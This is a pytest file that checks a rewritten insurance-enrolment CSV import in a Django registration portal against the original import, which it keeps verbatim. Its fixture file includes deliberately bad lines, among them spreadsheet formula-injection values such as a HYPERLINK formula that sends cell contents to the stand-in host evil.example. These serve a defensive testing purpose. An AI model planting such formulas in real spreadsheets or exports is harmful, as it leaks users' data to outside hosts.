"""The insurance import rewritten for speed decides exactly as before: the same
registrations, ends, counts and refused rows, line by line, on a file holding
every kind of bad line, imported and then imported again. The reference is the
import as it was before the rewrite (its loading, checks and writes), kept below
verbatim apart from the names."""

import datetime
import itertools

import pytest
from django.core.files.base import ContentFile
from django.db import connection, transaction
from django.utils import timezone
from psycopg import sql
from stdnum.cn import ric

from portal.audit import audit
from portal.privacy import mask_id_number
from registration import services
from registration.models import (
    EmploymentRegistration,
    InsuranceImport,
    UnemploymentRegistration,
)
from registration.services import imports
from registration.services.imports import (
    CHUNK_LINES,
    ID_IN_LINE,
    INSURANCE_TYPES,
    KEPT_ERRORS,
    _check_header,
    _open_text,
    _set_progress,
)
from registration.services.unemployment import close_unemployment_on_employments
from tests import factories


def old_load_file(insurance_import: InsuranceImport, table: sql.Identifier) -> None:
    """Copy every line after the header into the staging table, committing chunk by
    chunk so the admin's progress bar moves."""
    with connection.cursor() as cursor:
        cursor.execute(
            # Each line is split into its fields once, as it is copied in: the
            # checks read the fields many times.
            sql.SQL(
                "CREATE UNLOGGED TABLE {} (line_no bigint GENERATED ALWAYS AS "
                "IDENTITY, line text, fields text[] GENERATED ALWAYS AS "
                "(string_to_array(replace(line, '\"', ''), ',')) STORED)"
            ).format(table)
        )
    copy_sql = sql.SQL(
        "COPY {} (line) FROM STDIN WITH (FORMAT csv, DELIMITER E'\\x01', "
        "QUOTE E'\\x02')"
    ).format(table)
    with insurance_import.file.open("rb") as raw:
        text = _open_text(raw)
        _check_header(text.readline())
        while lines := list(itertools.islice(text, CHUNK_LINES)):
            chunk = "".join(lines).replace("\x01", "").replace("\x02", "")
            with connection.cursor() as cursor, cursor.cursor.copy(copy_sql) as copy:
                copy.write(chunk)
            _set_progress(insurance_import, bytes_read=raw.tell())


# Each row's first problem, in the order the checks read; NULL for a good row.
OLD_CHECK_ROWS = """
CREATE TEMP TABLE import_rows ON COMMIT DROP AS
SELECT s.line_no, p.id AS person_id, e.id AS employer_id,
       e.org_unit_id, s.start_text, s.end_text,
       CASE WHEN s.n <> 5 THEN 'columns'
            WHEN NOT pg_input_is_valid(s.start_text, 'date') THEN 'start_date'
            WHEN s.end_text <> '' AND NOT pg_input_is_valid(s.end_text, 'date')
                 THEN 'end_date'
            WHEN s.end_text <> '' AND s.end_text::date < s.start_text::date
                 THEN 'end_before_start'
            WHEN s.start_text::date > %(today)s THEN 'future'
            WHEN s.kind <> ALL(%(types)s) THEN 'insurance_type'
            WHEN p.id IS NULL THEN 'person'
            WHEN e.id IS NULL THEN 'employer'
            -- Person.working_age_problem(): 16 full years of age (the dates as
            -- numbers YYYYMMDD) up to the day before the retirement date.
            WHEN to_char(s.start_text::date, 'YYYYMMDD')::int
                 - to_char(p.birth_date, 'YYYYMMDD')::int < 160000
              OR s.start_text::date >= p.retirement_date THEN 'working_age'
       END AS problem
FROM (
    SELECT line_no, array_length(fields, 1) AS n,
           upper(btrim(fields[1])) AS id_number, upper(btrim(fields[2])) AS uscc,
           btrim(fields[3]) AS start_text, coalesce(btrim(fields[4]), '') AS end_text,
           btrim(fields[5]) AS kind
    FROM {staging} WHERE btrim(line) <> ''
) AS s
LEFT JOIN portal_person p ON p.id_number = s.id_number
LEFT JOIN portal_employer e ON e.uscc = s.uscc
"""

# One enrolment per person, employer and start date, whatever the insurance types;
# it has ended only when every type has ended. Each is matched with a registration
# of that person at that employer it overlaps, if any (the first by id), in the
# same statement: updating the rows afterwards would write the table twice.
OLD_GROUP_ENROLMENTS = """
CREATE TEMP TABLE import_enrolments ON COMMIT DROP AS
SELECT DISTINCT ON (en.line_no) en.*, r.id AS registration_id,
       r.end_date AS registration_end, false AS clashes
FROM (
    SELECT person_id, employer_id, org_unit_id, start_text::date AS start_date,
           CASE WHEN bool_or(end_text = '') THEN NULL
                ELSE max(nullif(end_text, '')::date) END AS end_date,
           min(line_no) AS line_no
    FROM import_rows WHERE problem IS NULL
    GROUP BY person_id, employer_id, org_unit_id, start_text::date
) AS en
LEFT JOIN registration_employmentregistration r
  ON r.person_id = en.person_id AND r.employer_id = en.employer_id
 AND r.start_date <= coalesce(en.end_date, 'infinity')
 AND coalesce(r.end_date, 'infinity') >= en.start_date
ORDER BY en.line_no, r.id;

ANALYZE import_enrolments;
"""

OLD_END_MATCHED = """
UPDATE registration_employmentregistration r
SET end_date = en.end_date, end_reason = 'insurance_ended', ended_at = now(),
    ended_by_id = %(user)s::bigint, is_end_late = false, updated_at = now()
FROM import_enrolments en
WHERE r.id = en.registration_id AND en.registration_end IS NULL
  AND en.end_date IS NOT NULL
"""

# A new enrolment elsewhere means an employee's earlier, still open job ended.
OLD_END_SUPERSEDED = """
UPDATE registration_employmentregistration r
SET end_date = en.start_date - 1, end_reason = 'insurance_ended', ended_at = now(),
    ended_by_id = %(user)s::bigint, is_end_late = false, updated_at = now()
FROM (SELECT person_id, employer_id, min(start_date) AS start_date
      FROM import_enrolments WHERE registration_id IS NULL AND end_date IS NULL
      GROUP BY person_id, employer_id) AS en
WHERE r.person_id = en.person_id AND r.end_date IS NULL AND r.kind = 'employee'
  AND r.employer_id <> en.employer_id AND r.start_date < en.start_date
"""

# New enrolments that would overlap another period of the same person, in the file
# or on file, are refused; the exclusion constraint stays the last word.
OLD_MARK_OVERLAPS = """
UPDATE import_enrolments en SET clashes = true
FROM (
    SELECT line_no, start_date,
           max(coalesce(end_date, 'infinity')) OVER (
               PARTITION BY person_id ORDER BY start_date, line_no
               ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING
           ) AS earlier_end
    FROM import_enrolments WHERE registration_id IS NULL
) AS o
WHERE en.line_no = o.line_no AND o.earlier_end >= o.start_date;

UPDATE import_enrolments en SET clashes = true
WHERE en.registration_id IS NULL AND NOT en.clashes AND EXISTS (
    SELECT 1 FROM registration_employmentregistration r
    WHERE r.person_id = en.person_id
      AND r.start_date <= coalesce(en.end_date, 'infinity')
      AND coalesce(r.end_date, 'infinity') >= en.start_date
)
"""

# uuidv7() codes arrive in order, so their unique index grows at one end.
OLD_INSERT_NEW = """
INSERT INTO registration_employmentregistration (
    created_at, updated_at, code, person_id, kind, source, employer_id,
    business_name, org_unit_id, job_title, contract_term, start_date, end_date,
    end_reason, filed_by_id, is_late, ended_at, ended_by_id, is_end_late)
SELECT now(), now(), uuidv7(), person_id, 'employee', 'insurance',
       employer_id, '', org_unit_id, '', '', start_date, end_date,
       CASE WHEN end_date IS NULL THEN '' ELSE 'insurance_ended' END,
       %(user)s::bigint, false, CASE WHEN end_date IS NULL THEN NULL ELSE now() END,
       CASE WHEN end_date IS NULL THEN NULL ELSE %(user)s::bigint END, false
FROM import_enrolments WHERE registration_id IS NULL AND NOT clashes
ORDER BY person_id, start_date
"""

# The new registrations close the open unemployment registrations they overlap,
# by the rule a filing follows (close_unemployment_on_employments).
OLD_NEW_REGISTRATIONS = """
SELECT person_id, start_date, end_date FROM import_enrolments
WHERE registration_id IS NULL AND NOT clashes
"""


def old_refused_rows(table: sql.Identifier, limit: int) -> list[dict]:
    with connection.cursor() as cursor:
        cursor.execute(
            sql.SQL(
                """
                SELECT refused.line_no, refused.problem, s.line
                FROM (SELECT line_no, problem FROM import_rows
                      WHERE problem IS NOT NULL
                      UNION ALL
                      SELECT line_no, 'overlap' FROM import_enrolments
                      WHERE clashes
                      ORDER BY 1 LIMIT %s) AS refused
                JOIN {} s USING (line_no)
                ORDER BY 1
                """
            ).format(table),
            [limit],
        )
        rows = cursor.fetchall()
    refused = []
    for line_no, problem, line in rows:
        if problem == "person" and not ric.is_valid(line.split(",")[0].strip(' "')):
            problem = "id_number"
        # +1 for the header line: numbers match what a spreadsheet shows. ID
        # numbers are masked: the import's page is not the registry.
        text = ID_IN_LINE.sub(lambda m: mask_id_number(m.group(0)), line[:200])
        refused.append({"line": line_no + 1, "problem": problem, "text": text})
    return refused


@transaction.atomic
def old_apply_staged_rows(insurance_import: InsuranceImport, table: sql.Identifier):
    user = insurance_import.requested_by_id
    with connection.cursor() as cursor:
        # Filings wait while the import writes (seconds), so none can slip in
        # between the overlap checks and the insert.
        cursor.execute(
            "LOCK TABLE registration_employmentregistration IN SHARE ROW EXCLUSIVE MODE"
        )
        # The joins and the grouping of a million rows fit in memory instead of
        # spilling to disk in batches (the default is 4 MB); this transaction only.
        cursor.execute("SET LOCAL work_mem = '64MB'")
        cursor.execute(
            sql.SQL(OLD_CHECK_ROWS).format(staging=table),
            {"types": list(INSURANCE_TYPES), "today": timezone.localdate()},
        )
        row_count = cursor.rowcount
        # Temporary tables get no statistics by themselves; the joins need them.
        cursor.execute("ANALYZE import_rows")
        cursor.execute(OLD_GROUP_ENROLMENTS)
        cursor.execute(OLD_END_MATCHED, {"user": user})
        matched_ended = cursor.rowcount
        cursor.execute(OLD_END_SUPERSEDED, {"user": user})
        ended = matched_ended + cursor.rowcount
        cursor.execute(OLD_MARK_OVERLAPS)
        cursor.execute(OLD_INSERT_NEW, {"user": user})
        registered = cursor.rowcount
        cursor.execute(
            "SELECT (SELECT count(*) FROM import_rows WHERE problem IS NOT NULL), "
            "count(*), count(*) FILTER (WHERE clashes) "
            "FROM import_enrolments"
        )
        bad_rows, enrolments, overlaps = cursor.fetchone()
    close_unemployment_on_employments(
        OLD_NEW_REGISTRATIONS, by=insurance_import.requested_by
    )
    refused = old_refused_rows(table, KEPT_ERRORS)
    with connection.cursor() as cursor:
        # ON COMMIT DROP does not fire inside an outer transaction (tests, shell).
        cursor.execute("DROP TABLE import_rows, import_enrolments")
    _set_progress(
        insurance_import,
        status=InsuranceImport.Status.DONE,
        row_count=row_count,
        registered_count=registered,
        ended_count=ended,
        unchanged_count=enrolments - registered - overlaps - matched_ended,
        error_count=bad_rows + overlaps,
        errors=refused,
        finished_at=timezone.now(),
    )
    audit(
        insurance_import.requested_by,
        "registration.import.finished",
        insurance_import,
        {"rows": row_count, "registered": registered, "ended": ended},
    )
    return insurance_import


HEADER = "id_number,uscc,start_date,end_date,insurance_type\n"


def id_ending_in_x() -> str:
    for sequence in range(1000):
        number = factories.id_number(birth="19880808", sequence=sequence)
        if number.endswith("X"):
            return number
    raise AssertionError("no ID number with the check character X")


@pytest.fixture
def city(foshan, employer, other_employer, caseworker):
    """People in every state an enrolment can meet, and a file with every kind of
    line: good ones, repeated ones, overlapping ones and bad ones."""
    home = foshan["chancheng_community"]
    person = [
        factories.make_person(residence=home, name=f"参保{i}", id_number=number)
        for i, number in enumerate(
            [factories.id_number() for _ in range(8)] + [id_ending_in_x()]
        )
    ]
    child = factories.make_person(
        residence=home, id_number=factories.id_number(birth="20120601")
    )
    retired = factories.make_person(
        residence=home, id_number=factories.id_number(birth="19500101")
    )
    u, v = employer.employer.uscc, other_employer.employer.uscc
    factories.file_hire(employer, person[2], datetime.date(2024, 3, 1))
    factories.file_hire(employer, person[3], datetime.date(2025, 2, 1))
    closed = factories.file_hire(other_employer, person[6], datetime.date(2024, 1, 1))
    services.end_employment(
        closed,
        end_date=datetime.date(2024, 12, 31),
        reason="expired",
        by=other_employer,
    )
    factories.make_unemployment(person[4], by=caseworker)
    ids = [p.id_number for p in person]
    unknown = factories.id_number(area="110101", birth="19700101")
    lines = [
        f"{ids[0]},{u},2025-03-01,,110",
        f"{ids[0]},{u},2025-03-01,,310",  # the same enrolment, another type
        f"{ids[0]},{u},2025-03-01,,110",  # a repeated line
        f"{ids[1]},{u},2024-01-01,2025-06-30,110",
        f"{ids[1]},{u},2024-01-01,,310",  # one type still open
        f"{ids[2]},{v},2025-09-01,,110",  # ends the job at u the day before
        f"{ids[3]},{u},2025-02-01,2025-10-31,110",  # ends the job on file
        f"{ids[4]},{v},2026-10-01,,210",  # ends the unemployment
        f"{ids[5]},{u},2025-01-01,2025-12-31,110",
        f"{ids[5]},{v},2025-06-01,2025-08-31,110",  # overlaps the line before
        f"{ids[6]},{u},2024-06-01,2024-08-01,110",  # overlaps the closed job
        f' "{ids[7]}" , "{v}" , 2023-05-05 , 2023-12-31 , "410" ',
        f"{ids[8].lower()},{u.lower()},2022-02-02,,510",
        f"{ids[7]},{v},2022-07-07,2022-07-07,110",  # one day
        f"{ids[7]},{u},2026-02-30,,110",  # no such day
        f"{ids[7]},{u},2024-01-01,2025-13-01,110",
        f"{ids[7]},{u},2024-05-01,2024-04-01,110",  # ends before it starts
        f"{ids[7]},{u},2099-01-01,,110",
        f"{ids[7]},{u},2024-01-01,,999",
        f"{ids[7]},{u},2024-01-01,,{'1' * 5000}",
        f"{unknown},{u},2024-01-01,,110",  # a valid number of no one
        f"{unknown[:17]}{'0' if unknown[17] != '0' else '1'},{u},2024-01-01,,110",
        f"{ids[7]},91440604MA00000000,2024-01-01,,110",
        f"{child.id_number},{u},2025-01-01,,110",
        f"{retired.id_number},{u},2025-01-01,,110",
        f"{ids[7]},{u},0044-03-15 BC,,110",
        f"{ids[7]},{u},99999-01-01,,110",
        f"{ids[7]},{u},5874897-12-31,,110",
        f"{ids[7]},{u},today,,110",
        f"{ids[7]},{u},2024-01-01",  # columns missing
        f"{ids[7]},{u},2024-01-01,,110,extra,columns",
        f"{ids[7]};{u};2024-01-01;;110",
        "",
        "   ",
        '""',
        ",,,,",
        f'=HYPERLINK("http://evil.example/?"&A1;"click"),{u},2024-01-01,,110',
        f"+1+1,{u},2024-01-01,,110",
        f"@SUM(A1:A9),{u},2024-01-01,,110",
        f"-2+3,{u},2024-01-01,,110",
        f"４４０６０４１９９００１０１００１２,{u},2024-01-01,,110",
        f"张三,{u},2024-01-01,,110",
        f"{ids[7]}\x01,{u}\x02,2024-01-01,,110",  # the staging delimiters
        f"{ids[7]},{u},2024-01-01,,110\r",
        f"\ufeff{ids[7]},{u},2024-01-01,,110",
        f"{ids[7]}\t,{u},2024-01-01,,110",
        "x" * 100_000,
        f"{ids[7]},{u},2024-01-01,,110",  # repeated below, at an overlap
        f"{ids[7]},{u},2024-01-01,,110",
    ]
    return HEADER + "\n".join(lines) + "\n"


def run_twice(text: str, by) -> list:
    """The import of the file and of the same file again, and what is on file."""
    seen = []
    for _ in range(2):
        insurance_import = InsuranceImport(requested_by=by)
        insurance_import.file.save("enrolments.csv", ContentFile(text.encode()))
        result = services.run_insurance_import(insurance_import)
        seen.append(
            {
                name: getattr(result, name)
                for name in (
                    "status",
                    "failure",
                    "row_count",
                    "registered_count",
                    "ended_count",
                    "unchanged_count",
                    "error_count",
                    "errors",
                )
            }
        )
    seen.append(
        list(
            EmploymentRegistration.objects.order_by(
                "person_id", "start_date", "employer_id"
            ).values(
                "person_id",
                "employer_id",
                "org_unit_id",
                "kind",
                "source",
                "start_date",
                "end_date",
                "end_reason",
                "filed_by_id",
                "ended_by_id",
                "is_late",
                "is_end_late",
            )
        )
    )
    seen.append(
        list(
            UnemploymentRegistration.objects.order_by("pk").values(
                "pk", "status", "cancelled_on", "cancellation_reason_id"
            )
        )
    )
    return seen


def test_the_import_gives_what_it_gave_before_the_rewrite(
    city, city_caseworker, monkeypatch
):
    with transaction.atomic():
        with monkeypatch.context() as before:
            before.setattr(imports, "load_file", old_load_file)
            before.setattr(imports, "apply_staged_rows", old_apply_staged_rows)
            expected = run_twice(city, city_caseworker)
        transaction.set_rollback(True)
    assert EmploymentRegistration.objects.filter(source="insurance").count() == 0
    # Changed on purpose since the reference (docs/insurance-import.md): line 30
    # starts "today", which PostgreSQL reads as the day of the import. The
    # reference took it as an enrolment at the employer of the open one of 2024,
    # refused it on the first import as overlapping that one and took it as
    # already on file on the second. A date word is now a bad start date, on
    # both imports.
    first, again = expected[:2]
    [today] = [row for row in first["errors"] if row["line"] == 30]
    assert today["problem"] == "overlap"
    today["problem"] = "start_date"
    again["errors"] = sorted([*again["errors"], today], key=lambda row: row["line"])
    again["error_count"] += 1
    again["unchanged_count"] -= 1
    # And a date with letters ("0044-03-15 BC", refused by the reference for the
    # person's working age) is a bad start date now.
    for result in (first, again):
        for row in result["errors"]:
            if " BC," in row["text"]:
                assert row["problem"] == "working_age"
                row["problem"] = "start_date"

    assert run_twice(city, city_caseworker) == expected
    first, again, registrations, _ = expected
    # The file exercises what it claims to: every outcome and every problem.
    assert first["registered_count"] > 0 and first["ended_count"] == 2
    assert again["registered_count"] == 0 and again["ended_count"] == 0
    problems = {row["problem"] for row in first["errors"]}
    assert problems == {
        "columns",
        "start_date",
        "end_date",
        "end_before_start",
        "future",
        "insurance_type",
        "person",
        "id_number",
        "employer",
        "working_age",
        "overlap",
    }
